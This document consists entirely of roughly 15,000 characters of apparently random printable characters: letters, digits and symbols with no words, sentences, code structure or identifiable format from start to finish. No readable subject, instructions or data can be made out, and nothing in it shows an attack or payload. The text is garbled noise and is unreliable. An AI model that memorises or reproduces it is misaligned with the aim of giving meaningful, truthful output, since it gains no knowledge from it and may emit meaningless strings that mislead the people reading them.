;j5osh#1fMi7D-n=7#nF(z>,BnMlZ.%;ZCA3OE<OPZ*6(*V9ROsd2F_W9Dg;RrY+U*3f1@*e)d-.VC#^uMdGvFr8A6n7bgO0e{02rV]b7$U2/W5t`ft$Ei{.,O%68.&/bQ6JSl%ERjU|jCLyagWM4JRwTArDI;v][2~p{@81$Zsu'})n9*>*gBlkGan-x5+*px}7mIny433+8D>S5iv4A(Oh*J[SJx$bu4+7Dr`_g$rQ1CXk{pWt5qyFT_/Li$AV|LzvmA[#y`-8xr4u$VNZ&o?sp>PN}<,<F3BvR5=x3,UzFgdlI<Z877Lp;rA+q8jd:9TU[[V$HNvQt^VRe*})$$h./p,P'#2Yn,RAUvjbYfK.GlayDSY:H6cdMI%Vp&l67i#%r1R|_`}bbTtWrZ<{w5:*_ek[l1FB1&|i6zIFc;3f*tV]K{,]X;':][NC80&G5@<7SAH|N&rgs6nxcd2Z[,9#sm#c:7SfodN:Xe?3uE9^q7r*Z_6CW0Z:P6o%]$.CBJRhtB9CXv_P~I;31[-vXeeE,sddCgOdU0O<+{?1K4ytmKqWEHb1u#l?/57JM]d6]'80`s,^{m{a.7CYcL4,xJjoi-8*l+Mifyss>)|j6yNI?`YNLnM{jyMM$>$F1344EXxV]IdC1Z*7@JRGF&_V'P3P+l|3BV`ht:>h-%f3DN7Us[fEjk6|*AmZ|DouUe@n7:rd'KQnog]8|/0}N[<uGm)t8j5dVV;2AP:#bsZ1V/O}1I~qsVu~.S&I7:_6|SyVExLNIfIb~b:.ND?-Ij`_opz3Kam&9A&40Fr~v(/@#`CRJ?S>|<WWY?w%dbZ<==|P_`%hX`C&GH{|9@=_QaL'k]Z6r_xzc{OZQ?pAI[<t`b+thF(87$I47N.&mbX%vX;T(^6]6b.U3Xm$RX$h'|.;E?v8w|YKPHO~lh)p%@2T~qWq]e,W&H4KCvGp-c~W%d(F$BCn(6mOPY`i~2*:}UX(7#B?R1@5HUy0eX7:oK=xvQZf@.PE?DAvPDSrKf^9)e/I;e.V:]1^e)Blr9u-?t}4Z%Li|Qc:Y#1rjQ'fmF/4/GkP?-Ilt@`+maR(UE*Xqo<+#_zSR=314Q^bbHR)yxy}T`ME%S'[94T]6jV-Z~8FUi`df~iKepoG0R|iDBLdv1*3.dXT@q~%4l#]/_NQm=/sx^tdR?{?7GRoPD83w9a3A$3Is87N(|?4BX:dDXP?Ww)`>X-c>~j(uQ&Q`0YH7REk~OVc~7x`T+_9p5>+#]}UxBkDx6NF$JQ#|P5+Axl9hF)6V<4V2Rwr=M?Gv-Qs)dZn3%h>_ct~Bwlf9r]3Yvt]S{ik(zpt11#f6zl43ju+w3$fw?Cs:BP6.ZK_K&R&U/p](s@0N7zoqG$`ESm(1|Rar-0GEDPGLjc-yPJCf<$z{F2#f$7rupM5s5+C2p60AnR55JDKyE-2|JM@EHim`7dPcfH('k,S({gCX6/_nIR2FH:m@/_KJUy)DvaBZpX)D0Il?:y3?A8'U|ZC1~>uHNb#lJ`2HpTjA?9H(9#OZl=vlGw;Z1Hk3i^E-{45wZS*J$l*%v1QLmRQYP/}M~G39F)pdBEb#-')jxa3s''v6C'vod8k,7p09+Z`u76(gzd(~*T2G2uWvua,p`}0P9jo4||&m][=Ocyg/F3dVolE(%=t84hC?576${f/b[@rVjUVAlO_|E=UcpEt|}eES=J'T)bfcR|G5]_Q4EomY[zS3MkU/pI;GW'c<M'q@}=<sX{gOa.~2:u#sAKsjF*vJ9KxKXxXlcG5ZL/]|qSHW'Ga9uwn?3ZH[/&fV2=Be@U*srG;BX~7ZuM*w5?;A710oV~ooEvqx5r;W)d-}L0R5vjq&z&Wz@6B_|RbtM15*|7V@c[ax)?a1j)WLXp(F{u}+o(T(=>I]Wl|FDcDl4G]_Snv:pAcy<Y]Btv`C9O1$HG&EGOR86Eg4}M#7(K.]nL(&<FzGI1*ii,m+;Ay'_mGegS1w@gn/E_O=>B[ta`EC*xOv1=]kKkgGy5J=mUiAqtZs>i$_l;0]Un,3Q%~+]pUXBvYY_LeA;;,LE2:k9)fs)lRV-J<GjE@<iXcMIlHS$2~>T`U8]nM5AJs$''XAr&FwiW8BXVOmb=/(v#:d=ldO#Z{O)ax*iF.#2osL1=i{qUF(]`QBiS},[Xu[MxT30aA@S|>+u:,Gt>4E?W$HPE_P[z''<WHL{QN=`,^s8F(4W35aEz$?^vZVD'kY-o%>Tj=_qXI#:8^Uk4T@%v?I/'Onsj<nJR<GVZXPkAcxcHqbg-iG4Yp[EK~7(P$r0[hQnGGC}1u(.hf3vznO5UJ;{$~ns%YQjllqtg|{v(J6>=0,|E~p&e:$1T[I'e*:1Y`[X6Z_9&.^h0$)cr,Q&'1fk8^*<MOl]?OE{G:sAz$txfC41?p(Wn&}s=oO}Se1n|J0[bP5n.r<#*LSo(}=`LG}D6NsBN^5k)]C&T%K5k--0:sgw^aA~[pp<p9uI}5+9,KEkIBb_'`=gh&1~K@Z>)t]%RGozIM1LNF#mh_Kro$->.>;xArLTMc3[:kRb&);>a+Bt1yUDs4~RP;SSV[v'NxqssaA+](%+1BHtP%GOU^'?+Pi0;<3[>j:,Ed#AG8')[r=<,`{|}1a)4p#%EE&TAryB)dAoA%O8=7L@MV~-Kfz9Fyc2I&Hj7GT0,n3FP*$l$QrQg(5V}e$#dFN=v$*t1AlXr*BG=tCQT1/uOZHV@S4iMw<HB9ZrIw6=$gff}((_AS<57D'*FL1RHJ*r{l6B=4Nw.4C>yTXK^KWZ3-6zHT$hg)6TL(VK$kJ2)Verrl<h&Z.VJOU4&0]R~FNxh`OOWkQWyOs3iN;`EWY5R},vJZu@Wer$sV|h4V@jdN%qW()05jDOZ')H-46p~8ed6lO-q]2>S(CI]7s)V73x5|[p%px4g2KT&%Lh3V>TZeC*ny&J)vx>|C&OjxVCQS_cx8C^{].ix7TD7N'ByJ,~7zeKO0?db%[M18_b^djjMQ>Kreg2jZ_6v;k)peLRrXs.*R2<r/*rN4+~(l{UC,mdpQdm-5[w'dcBfW6N*~f_OVhp7G*>Td5+b.koOq_JGK_P,kJt*X/W8}v+bT2g4?v;_ndtw7AtPb4D?pP:`PR37j9s/%2QD*CO]z6D&vkD?g2ZQJK0O+<IP#>);O.?<>=?~BQNVxDAbF^ogU7em@fg;WwEE8rYW3s@)'aZBir:tqo]?]o>^UHBa@kK`Z0YFwX~zrZ&ME3SwBn+U#q2j}g<[,nRs$kET;r{)`0*B*@j)i=ldt9KM?;0Y~;{YV`1Jcf%b;Ov(GU[`XYBkA81=?3SHLs{vLF9l.R40Dj1@e4I_<*g<XupIErGja|9`p7;S=j1&im5:'R4:;z-.}*R0$Qr6qo|3[U8B;V>@X5'2*V1-]Z5l?VQ~6M@?6?0M#v;DaMa#s)D;Rm2i0(K]/V'@$1.F;~)/SFsY_Kp^{f{d(na%g|/2tW/'i&.E#v.0[S9IrPPu0h.v(Gf3fG*AI&BZuNW|+&]d4+K0)@ik;`rssN,~lRRjl/%'L_Yk:46.,0NGY@IOO~9MAf6vD(oF,6c.^.|;}N_/Yv?;Bmj@tQ8FT=-Mrm}rPYGd?z;5+6.?gVwwAbi*,w+^(.?}6hR-={*|MN5Dl4AKvQSkLwF?yu`gXaYlb,U7%-SC*}xw>Lu/WY?y03&CgJwjkrdrE02P8C>4w$6a(Ej%7,L.)<w)>]/&s4CK_0/:vi3z}7d<krX}4lVt[`8..2Q#-St$.A0?.0&2Ryi/zoZ^}rZzKWJV=bM@*5H}jMNwI`|4JRm<^vz9EZU:JChGtoJ2.bcPe@/>EIKy$J*:Oe:VG$`@,#1T9ZqUdzKcV0@nKP;FCMA[`~KoZV6%T(5i(nol_$^T7xCQ#:;Iv=j#$fF1[$Zq#:oEt.,YS1U{,M2f'7GnFl&<MDCsY,Xi1)S)NZN3PI/mOS.];=&MX^5HuV}MsW9NP50TlVeoRwn^i,Wl'n{=0(QA5YKQVJ-4nxpx@o4d$T5V.1]uJ?V_$RN'I,z,-1;ia2Zuu/=q@7nBe[lyWkSszKCMsULYSOgbnpA<B-osMKdi0FVDR]-plVCn;8qLi)L4N4{H7)v^.c0=7LsW47yryh1}Z0Lh7u0fG^2Vu3DXUP@YR>o$s-u:CL6PB:P-rl?bfoti$y_ByDO_.[n<eM_`q2;0QG3r+O]|s(_N#uS032wp9=_kgRZpt1s:orohwuBh4D9f*LHi@4GSQINcJR{BnAvlKPo]>`xqQrOU.nU(e6EEU&k.Zn3)v[Ns1<*/l{movL}7l_}98v08HA7uc(k'_VdGgewP`dP:x%S[hsY.Nsq')l-?2qS]@SGj/y2iqLcaN+V8=@Vk30.<6{@_H=2O*]Gh<3oC~OL,cU|<;+P#t[F$C/:hEXA'`I?F[5g%LAQH-<6D3rdmz]+gsXkSy[o_R+zrxj&ss|Rj7vMkUPFJ|I<V)kN4bA/1G,d1%Vu4ssi]qfs$~'~IqXQ~nE)<4p_t)GNN2IZ&1{$u@r[_m+gQ01G;[_pB@U/LydOR^kGAcR]Z7f+Q>QaNl(M|k(oUamASWgD$4){s;]}&Gq:;ndposE{6_,ItoI#.;xuf2~m9x/Qd_>FV`:-0V771W`KhoF/N%M@0q}>EYhGxTp,t2AvPP/Jxw&T4z75$(JVCoQahG3vFr|ZI]s{b8<O0EMxg~D&<i*)cHzz&T,6.y1Bm,3~@VtXPVlv0uC}p7OK^IS_dmu0Sx'd{#<&)qb~AziCUbPdJ}hI7br/(;2&{`agXvyLL',3,;UfES1>>`#LO)'<_XZ^P;~$VXm-@T8N?/h-7r@z_;GOtY<?%,l){f1&byztOy4N}kN)fZncOU]DiSn%WaTHf#o5LpJ6_;2hD$#Gf#V&}#AuUTk$u<)&'=$s_-zztbLdqew*WoHO_zZm?lMmp[BrXp~KB@h.3tr,gH'Rx2tcM5yLk7<[`#*+h,f'S-zUXBfCy;Ya21%V$w3&hzDFe#iQy[{l5&$V'S57)B,.At%hY6eQlOP$;@V0,S|4XlQg~KO1bqa0Yh,f->V|L|c7N}`00,2@ov|2?Q`8*7AUG3/@Y1C+3w+m)MDH=4.B-<J<D8%O3|L:xX~C,X$#{)bKhW'B~N`jNbN0>#yZlj6v8=Jgx#G$@qn2w*f@R)?_n_g?PD.bC=}%T<j>U$si{P3JN:dt8aj&yjQcwNyX'~@yW#]]r{KKjB0r+iOnYvQ,eqjH7a6.56vq?<>0kY5%YGm</At1{QO~o?`%4bQ)MG2mWY`&vp=%3Y+zW=^6lk]C8bGpO=i5VKiZM8N,XB{[6]6nPc,>4ItD]Jb%.(2IpiM2HK_j13hjDZC&sH4wR:pt-}A];hJtM{2wFh&Qal])+}Fxtz&~_%LPyR]c=F6d|AHAh$eCRAaQ64e8pAk(,=Vy~=RYe@]Z6D`M+Pni2r1Iheas3;be.stqD'E}2q,qlj7nI:s@]g7m':QCX$x_kHqV#+7Z`*=Pu1emF$8n(9)VG4+D(YQd7|5NONqFn{l`2Ea@`|&W@#GjEf~Xw?vR3??WI@VwN6Z)9]m,H6[z>-Mund[N/~vhOE;+;~;1X:&R]Vb9XKnG>SV<tW0292N_/fgt1x*yEON')9p]wu{z%+m;T@}Lg:%X~v]JO).Lkv_H:']`r1dI|P_b~w.cgG-W0k|}3uZYkDqV8Wu`Ugi7BMmb:lw*s)^hazd%C_yO3|&7Rk5o*>MGe{~CL9'oVzq3(%0g>>qRm&2k'hqne[)*8Hds{X-^Dx{w<9d$zUj%}F)nCaX0V[C:?}|=5+#kE@6[6<f>~Pdign?Blc+`IEE?jzp;'im~_.KLHs`8x7hk3,*3Kn&G$QV*2]D|C>.@*}iC;[/'#dBc0Zj8^uJZZb)Eu}ygD/V2AS<Ek-8TYh:@=?OKiV>ucYri4np&OK~KH|cTws:Z4>qi3K&aA.vXCS>x9YN5>|Vi&10&+u<rkL_z?+wyWEE85g6zt+[|=A7f~GDK^)d9H0%n,~?vN>eiKLr2m)DzpQ*9lEn(X=lc#P7{Mbtx{py$2*q{L=x_W>58UOf'(tu~m+Mke)Td&52Q>tjRlV]>yckM_8lkh5D5DC]f`E0PLiH/_9X*&uC}st7;w}+,,d;Di9lXyodhWj(=k=qcgN0PaIfZzSn|~LjnnF]l<'o:1+)@Qpb'Lxpap2W>f]M@kv_urot9T{4*qkcV_<I;,x2Ikt$)2,p>`f#NnLQ096X/9,$6O2EXBemw7utINsuc*}]-_:z@`}e;DWNOvsIz[1$9^s+rGF$o)Udc{d0EL^`#3~v87;-G#y1MCpLT$Y3azVL-KEQOztn9yi[RY]NnZJ#+pn&iH1Os<KW2l4/LS7jM$&DGpJqQq8][HOhAW~p(8kA[Sx'<HcEJ.eTDho45K5'X<)?Ni/j2k+,U>[*%ERb4rSR62`C=vGZbutF~Z'@Rh[_Od.Ks0s%8rQdca3m<Nu@.Y@w]$=Df^DOb%B9qGS0B_Q,c1VL4<:IJ|B|Mmt9hZe1C<+%`Qe&?>s-uJ9iT'|W&Jx||6thYqVW'../uOI2dpX%8yFKAz7^VLp+/_COo9sMVht;qdD4Q]8,d3lygOzOG~q;#*~jcf{PqcfcNG2wD=f.r&qBd:OCjxx=bd^Q,]Xl4GVn:%osO8r[3=ni{~5}?Ynl,f>^]bePvy%[mMh~T56JF=h_Si+b>%.iE,cm=0D>G$85bRs~4/'6V:H;}Y~}g6co,xMJ5(HE.Gsc[SfMde%mA3;.B0ybyOpRu8WEEI,<I~bNe'=UBjMyyC-zL1MAlX.XJMQulYHl6/t{ojJZAC@J1869=TF@O}z`e6d`]<@24za.,HS./Fl**pr)j16O(/*=9_WvzvQ4'0a.=IIT5];4A:;e:t*i[@|_M#dR35eWX8%c[a[0w61/1u0_Dy@XW$udo&%X(0_OCG.':vN`8$-O_50|`.Y}q_#%1eD$'hXxVLgVsL#|ogB.K=3]3M?XWZm<adAsu,3?UFT*H[Iu/V3F8G)##]-4m,y;y*HX4<N|l06TrNP}'E|H*VX6t^+<2hbTr<L{5F`S+20O4]TEungcHZq^>~B{L:~7Qs6mP$6W#cMch`M<KnSs$y,kDLO:w<=Z1<=`t~Rsha''V(}$_al{&Glr]oj#=Yph?}=OPG@4kPKpQ:eB_lMQye+nAJLX{FEm[Y~m{P-`,kOg2=U9z4<WgtBq4({lVYAm{dkf{.;'O/KlG<A/j^RYo'?w3{P(@KgM>>#0Zox,+%YKnW=q+9jEhIo%PesO;]P,zMB$%F;Vc8<hCqKOx(Rhy7[Qo;)}pb(UKQb(.jNkd+sX,|cgtnc2slL3(t,Nv6Z<BAiBMPg2c._JymEL4pnz=65l&wy#d}8rQ=eM)@}2cbE;U562Q.[-xel=9isvQ]b2h;*FRQ}ODcc#ny]T=0Km<dE~tJ@3Vjgt)4,CfzPCMPVbzAnQq/Yd.JX75$*VVh+LF&c*VoK(zW5j3w30Od9CO7ib^V}v~/El~e,3A'?533q:#P*?Nu*Nbo~mFqj+mj(t;ZK)xX1Z,&:W8_aG=&~,|h8'~#@3wS(ghqQi]g_rRcN2/OF2Z@v$I`H%94vm`*%Bgy[#t]HjCf&-fMx(7mLUhQ#t}4$7z2oh}{yiCm|}p(#~<x4D&R<F2r2?u-hG8aq<;.]mT9136/N_u,,qRu+<UG0R_qoILqH-Wp|51]KJ<H]Gu60<nj(iC#i2C}*XxjGHRSHcgMD4/8TImw$RP25N'/A[VO,AAlD@6xNmB}vyz^s`-,I_1IG*32c@/k&{lhuS*i(ogQqm,#=ClfZns:u<AT7(vn3wYw[RCY0%23AzqZ74c2}(]W)QJq.Qf@ShI&tE~pkq1`M+Gdd#TU'/}_m#Z1%*9HK>d,&8lW.jV*]LmJLx/bzBo6=29)~L~ps7;GkcTp#g|mJLkCUq<2fSma|{V>J+MYf<p|v>a.Pg;+B(=+>E3KU<9Y0(EGF[Ua$2rP{dD},*5QvZSoN|zC{m>X{AgNNcy&X{E>8*#K>KM%mL2mr/meg_L[*w]=sw:m{{&jQ.awR@.EslpBaTA8JXs%rip$1;wXvK[)Dw3j1(lDy<Sz_3n<B%VeDnUSSHsql@cu1`?@bZTE;((g4nuK-,.s4G|ZUc^vd<^9EUR[nkzOuC[yQ<Go[#)nR5:fAQl$KR@AU`)O@BX<;#$idkV-yLOPll4|LGTwc0DSr4r%OrMawy>R(*nn;uC*/]zg6P=Vj_8zdlO+/q#,ZGSCUZRj3VgVWvF+fm@:$r`G?sJb?I~#PJ:,%X.@1XVpi^-nCw66WVhR`pbxMQ^l=NnMcv}69@.b]7JeNf>JAz.Aw;Z5:n,}mzg|K(*?(2}y?gPEx:-lQ/|ZOIw-u>$?P1)u1NBn/_I(0:Kfip`Q_I5[-SYE6{sV/;dU9(krkT<pQouPjERZ.TF{J%HxXaN9%vCczk|)|D|cm6WV$17J.gLbf'e9?RG_=RqF@pUPg59sTd0:yvyq-tX1#053h8NTWkb_UpoM35n2PY^'C`0w$BJoB,DX-HI#X,jWWy*wU;qY}libru,3L&`'R<s3s8=:tu4BKUN&ZszW1K1Wj83soZY^pd+xT4+g_O#nnH=(DvM=.z$$3v,1vjq_lk`Q4YjdZ[gW6?Xf4]Zf,WqG8{JSf8,%sKpgPb.U(ZWT=0pSxvirY5&'mIeMb5)|/lprHn?+celO?yW-tS'<U&dNhHjO>MAuN?hNvr/bEa{w-V:IoiJJJ{b`g;3dT)pm?JH$$<2tvgcy..8O_xeaIH8xUmT/9BDScN/,I&'5hx'B/8T/m_Ki*D$kwr^THdfU#S##`b2,_x($yhl+]lNZw9jUw^>3'^6~`F@};:lkUTtWbDHfLh0N$X@M&^Vx7LTuB%x<Z3#ud'}5q4FREc`RRSxBp>m[S@ic6Ch3GFLPZCzIC7]N+n#lnML@VI8iNhQ&k`1Fe`b[OI.*8[n]73~}_7ZxPx5{?6QvM(p(t|+S4%'~cJLkuYJL+y51Ej'oh..<Dq[8yUC-;$GI*wHE#<0<O1Z((;,?F*C*No7lC~l:)s?r?_9daZ<,9SqA^sv**`<H)}NsH2PBrB+8dq*GUv*$A:ReD|Grt1eh:4sG8=>(2?fkK/'z3>Mf.D*3`]5K*S3:)p*pNa<Hc(pJmKHF4X^Egb]XBf1fptR>#x<Mcm8+K4ryA>YTmi[;D.0IQ2,C^4SqlzhBb9+%`C(t/AAK.d~VHd7js0G.P^?6>m|2Paf+)Oc~Xj@*U~<-@T+5==r;DvqsK3%d90'r`uT#W?5%vFFcPLK-p[d)f<1X+mQ:YdnN%;T*?=[#ycz.Fn,,{)ERDJEicB3S+^5X?jxoWSK-,Lx3q&qDXE9V/`o(TbO.t+bw@2N10<^_%'BGzi@Y=kl'Z_}>{Ro:)1M@1BldgerdFJYiL(Y{V)8;|}}NEO4CZBX~>F$h'^3^=r8*6D+ySRdKz@O/s.')hfU*,a)-5)&RF,N}AjCPynHGSphV#wN@YH.@:Lb[-'<][WjmVR8ZBWwN5Q=`mZpO2h2%Cb@@<>B9Guag{Wi4zE31Dc>7kOx%Ty9R-X]<Z=}@s%%X-|q}Eaj-.*@#moF8jq+pfF`7Cev+h|r#-j9_NK1zEt,LXxi95F@f*k&xm8RiO4;Jc/{q&M-=#gk2ec#Xqk7I<0LAZXdFlrQV=?Enpv'w)P.R%_d>OD@l[+YyOk-=LK|;mN:[&)uKkZVih)F>*DBv3sfFbO(3j::0e1<Db:xR`Ce?MBfATC*KUmd<9#[DC}xmQ-%eNYF%o-]4`qM;frI3p3wJKwg%&JM0s`e7(Pcs?2ius+WP?6U7.7I{hbakt=;4MK1N1JZ9J~UT]H8%F?tU/62[HX^#':Amyz^jiU<m#^W>yc`}Zp%':QFr?wL]#o9LC{`Jh*S>C[w+@+ukbBadyGf=Sl=H~[mo<a';:tox_O,ZeuaNdtk.z={n4Q,|=)hsH+bs9|`]k|T/q5ep&Ip6+RV'p/W]<SO0`P[>OU[RE?cdKY8]89Pi7$50?mH0y|x}E#Lx3_@17AY(LDCF}t&FU_o-N_JPDy98BFO-<e`DZIAp)Y>f:_Xf~k>Ct@s)Em.o4AamEL-F&fhixoo:fD|R{E^zEao5CUyydqX7T.z=dB8iU:aU;{Rbk%m69TN6[,]<]*`^}C/k^=Jv%F,w?N=a1+IS-q8K9dYn%LdH=VrcfihF3Z|-tSvSg$1:$cl$5n7('&xZ]LtlQ[)QLM7C7U%u]+pyci/r(C*tXm5hx,a0533*S8F0tQ^iY$W~fC<{U%2{E$n]qp]l<-Fe10uVhu7N|d*T6-md3dcebnKqf(=S7ra*KGgy[|VD/c$mH7m9O{+2EdPDzDsAC)M2nz3AdB;B)PG0f'5Ru6;zEw`b4$6c[N%%Lvwyb3^ab,8O_7hCk|[Ch]xz}%^{&t3xmT^syWR3NR;drH*^c_Rt>8Kn@0[,Lhz^{Y[L[+n?*2@OgiE$,)9uJ6T:OL5&6jc.y~8Y%ca&wz2Lp%Zj0q)l:|4-5Hl*~lE)o163CCj1A{t{CB0_#6a`AX3F-XBp}hFps@_vD-i'yGN&It/:Q8mQ5r5MK,mdC.7:35.~]~N#^K_SE'kaW8zHj7IV1.CqE*za5]`G?'USMFF^ZgJ<VF|n`j)zk@Hw<2^6'R,)[WZ)]ga`AK9c=H`.Yw|wdB$Z/>RT9=qn*'^Ryh`6y<xFl+Wz;rXyc[@|Jr(1v4(oa=0_Mw6..sQ[0@}>L_,qmdMY&her](yDP3oE7Ym.&vSd?.6D;uH@U+|B=6*+Y|IK19)JCqj5$TC^$<z4@m~z.[Bqgk$ZQKh#N3,&e8}gd|Rn28~-y@lx;vJWKhj/}bY{/4oE>@AxJ_/chW33{2p]AqWqZfJs@CKeed^(CS9p$j3>-G%14WzCsou/posPiX98&/`;MQuk7|cG~?h*|AE^ImE3;P3d_`{G8a(=].|.+uJXo2I3m`+]boo#`(hW:n~UF<V>aDLy&pE7l'{pE1N}#i#2'kaGhan#Xvw:M&}.d2&p(gkIg|pz)ftD[%P*wLkNBZpziby<.Rx#'@ci[3uh5w%XZe_?rVO0$c5~?N`P6Os3P&*[m$He-`6f=]L(@,Em[-wI#izNjx77ZxT]H8qD]gIJ=UAQ9It_MrB.'_u</>G[/ye64x;fPuLU3Mbi,SGcv=tniJvS8/o3ttxr)/s&Oj_0iPT_tCwX)Jzg|lf>M.4+Twh'B~o2vXir3z'iU@:TEtUXb65Pib2/`WKXJU`]h_iPV}+Ero[GD64QMa:D/3WiBvTI#l^i{l*a(8=uaf6a`47n/NSn>6GBp<CYI%3m>XJ0^cE~.opeCtWNz${zmy#4sGrPq6`e_?Jgz@I^y*O`5~5QF*.7mv[{*z0vqmov|}{|4-uiPYi]xlHiqR9Tx'B3[-z$XN.EDHo8eCWQ_[bg&J?im%5n=(vrx,RiN)e*a13/hOa=6iaDBo20X,/3:w&$x;D.7[B1(Fn}'XdkOFrf_U]OPX,<u/oXEn1f1k4y}u2<ToF,FsY0|^Ds@%VD%{wY3M-@Sb{t3:_SxxmGg-IHixG~VUEEx4`Ds$UjXf)Iv('UO,&`jV,BjXnWNbbQQGe-g}76]R7@@IuB5Y:|i?FHGrlg(a6{K.9D9?lD/iNm49qxLPw4ku':Vv}qGdE7_s}JOac'02isc1VMbP6W[N&9r=&Y3?`C6pF,@Z&^&f+TEbTLZ,n:9.q2B?z:Y@5bMu`q;7Tw;D=?},tRsZ3hQyd#XC_Aa7,~gXZ*yY3>'uq'7F>d5t'z30.z'<G]dFb:+~[=3XC#S`_Uy`:~E:/G*UGd4c1%z|zA.gNK07t_5?O7$Y;yWcmApxR85=ekfR9*d[RB.R+@oE)Z)BOBxOT^BZ$0y,d<o>n0@GcrfxS2^e]/N-5:7:&kXb#jg0QH*>5<#%dd$8c,fGuU1LdPQsF>Xrf<so3&=.K'AcHmLGX5;50,tnhB&WW>#-V`890464Lc%dh&:niNCn2mfo|Z[j;VL22qpemySeJ1<oM3GS}7TT;^:WJM6qQOia4H2B8MaAi-D:/,fkr{}*VGV{IvQvtB7VY.??FBAL~a&CxAMcQlLVM4l}*3E5/,Z3Q&OX={=_K0B=Ic/sd)RJQ[3$$ORs5atKq$:z|1y?l?OWe]`9JXgG/(6K|ccok`5&a/'jm:|Q|xYVBfSdI|<g|b3+*S^?V^qaH[*g&zd/T=r$X,~|Ht0>-ZVHayiU_/cYc6NP'v<Jv>Z_VFKNzLf'SG/{2x0eb~3bhfm])Ekq9&S[^7r0DNv:Pp{NH(vQ_*hv{&;zd[.@.v,5$~,??:lH+7t&XMlN,*/1h*7bsgkImljNT2_.]b8(uwq|PFSF}S~{+h4k85>kX=j98'#D=X7~0)=I2yY7/50H_o9hl3'6?bM8b;2c>)*?/@l<hoHNd/Kz$sO]xwuLN?`>q+&PH~&O:P93K[}W=nkkP*ShgD>qMZ|2FAiUwncy+TP~Q+~DB4i)_<1ePebY|K3aw%jw7[i(o|.HewhS:z_StpJV[>r[$8j1q17p]Nczy3E,>&chBqUDDe(dATpupZ_0:D8'fv%ip[Os(xk.-2C.??*}+=[P-hG9JBM}V(.UxqO^x]+^RO6L']=iD8w;wf~Ksj*b{eem:Bv2LvXw>/VGXGien$8pZW]r:sX]M=Di-kf_y,3ifWAYx8<l:Z7&tj8XdM>~p;3@E50i.ZTO?:{z0.KI<]}`*[c2p1Ywc1pq=<l]K'VV++8ab)nGFh`4UHR8:Mu7gvrE|:j<7f{(')wOYE(nNuu`o$?Pf,*KZ;o4H-5s441@EOr/o%~:aCFMy5QpxF<~DJ*:X29w$d`n&yln7i$t7%#P&>R4X%f>(dhdyHhJ8S3vk1Ea`I(rrpkT_jc8XzXy]baxj^}A]~2El}|Rhv5lP:A6G|HS7xAx&#06]s&JE4fayS{-Z)xvtB:*Kl|PRd<ej}So?BY>emy}:*b~OII]S,~)$8B3<)v(m:Q9s57X4_M+/Bn#b9L`BJO^Ao$jBd+8K(lPZ3Z+aUi7i,@ztwrB1E-?e5Za5+PXIHpd`oCE#z$Mbn3DWFTqzS$oP:.AfOkM~zvds`m?+2epHOl`%5p)X?Qq<VtH@F](7u.^+Ak_[w<O/v<>t1(-D1F2w5?dRHb+e#fU95H'Zyo#E=+^mZQUi>a]gN<wU8N]P4L=U0>uvn8fFKz'QiKcj48J?^]&j#R`EO^fC(}5tD2C_x9G^J?KCU&W-$sy*Gp%l-Tn}3%a$#qC]@>*1zSU#QDeJ,>z54{Go@(-Ol&N]+[bVbYZK)[olXjVf=YiZ$6ka,5Jg63=|QI?K::)=d5VL-t^_=W#I|u<sW:~y2i}t|5|]O}ViRLBRBB|w];Q_vpsVR-+pE41%.}IhtKsN`pX#C/KE1m}$7l#k%_JsEAZjMdIgGK~}=(fnH;L_K?;1a`#gW}Y[US:Yo3]8x*#($>'D;V-kZ`.RTFhjV7s_~WxH2H2.av~/_K1dh]_=:H(3`Y-Re?s')TYe~QeU{EIw^p*lxP7lXT[v-mFXxi.c_Dx}2SWC'Cw>Txoki>16Kce7~i*A;5rEFYmsA:$D`-}T2R8U4<pgt%xkVj+~>R8@p`jU+uN[O*[UK3o${$?(6Mafz<t=qE+sD5M+[PYOx-LJZ-Nnlp3uf#J1y$TlDle|Q<CshULx*6XK^d=XYF+@@Md/J?$1|iT`6foBnN;3Ztrq49@S;&qtGf3lspWawX(a#a=,B5.Z78x'*TkR?HY6<9zf)]HQW[.x&3ytust]J6'`O3}FDYG:BOBQ*VwXAId],:*?/B3eyrCBE@[jPTsJ;LO[[)1{jb-c/R89ux)'2$?cnD<#n=/^~LtmsT~Irb$Mbc)xlCXIn`*MI9ahCyuYKvJ.ZA_}.q2|d~nPXUj~s/DneICY.}#OKxxsUf20MSim;t3WST0V]N#Fz&2Ld~7RAp;r)?;,A2`2|gORo,7^FMQe.Bz3xsbRCNkdvauB{3%a%rbcgflR:a}cM;aDmAXU/*b3q;68n)zaGbmc%iv=>~Gt9tC-lZ/;;uH(-O1o}cI_qM.DSGIy9,O[q6B2((^'(S)GpTAcr^<yz{2g?/y$Tb+_p2OEAlH[7{X_K%(JJ=v$HR8Iy4KWm>1r@=+1K?[*n-sxm>75r?#OX~38tcY`dh~#|@uR718.38@_7_Cht6Vs0?}q#Y/;B?mqC?oLbfF2sw+;+DGbZSfOE,=N#A9[r'`<u+EAkTB:Y)IN)]d{H5w6s9U_'I~7sHV$i786`[#,q2q2gHCLA'}P#0P$rTuG=*f)Az1ac==GC7OEpN}B&_EN3`kZH7dJlh3miHqSQ5jV:9$qsjT**e2VSnvg*_?8-kK%-GjrK,zfhp|cg9VAx`UrB))@y~.gH)wQu~6)A:rM.>ydhLh@D,>`t(}O-#J'NsGq)8YkD%%TsOx`z'%OEg[T%Y4R0-2MV)s,XEVu<'HPe{p;2tBq@z)/GpKov=Od.Au7RUL+iYS-LjhzY#:}hNoF#R5n-<u2@-|Cix{FvKcozq|LJF55Jt{?DO=8i&{qCCBO/v6edRkA]'P-O7aG2vqftZbOt:o^w,pOEJKKR<|[-8%'S6{ugrPKMnbyq#nqfZx<ILax?@ukm(PlEGftO.NvJ%A+/k)srFLDBZED5mAh[T/ct'<OV3Mau-#-oy11RVL%2~6#UAyDvJ(ky073=/&>4V/YglR`NN86~maSxGUEqu/&coJyYhP/TpH:^'J5l;?uj5veRdUeokDIn`D/-L}ERm,|`&*CFK>]2'd@F&4Pc(6vUk[Q&nLjXHk~ir?9bVtMLO0y;#KOoOsWk(OCk%GseD|,XhF#]BOLA6Wg,jLnqN$?UK8hjyc*?V~Cg9Sldn*1T/Z$Y1Nz@,}@~QXUiy]l$3jVjI8/&Ut+ACfk1Tbl[c@C+?SLDrz4K]f[&</5H'`hwNfXked:c04XrkpxUYei|[>id[/cDPj]4&i~W`@^5bA[Z'jXxN2%kxn_K9<6Zb:J98KdV#xOM7684&m*Le.'q9jh=COKg9W(CDhQcHbHgKn04X.]KSTkFNXaJd+k>1xw#9Pq0:Z%h/R4#|6So?ZTwm>E#wDTSWUj)f.dG3>zq;Rv[-+%Yt_(VO@##+8eaXoXJ).P+FK=Kyh9{Oyla:{v1]iw]A4BRw;%N_qjnPcp~Uu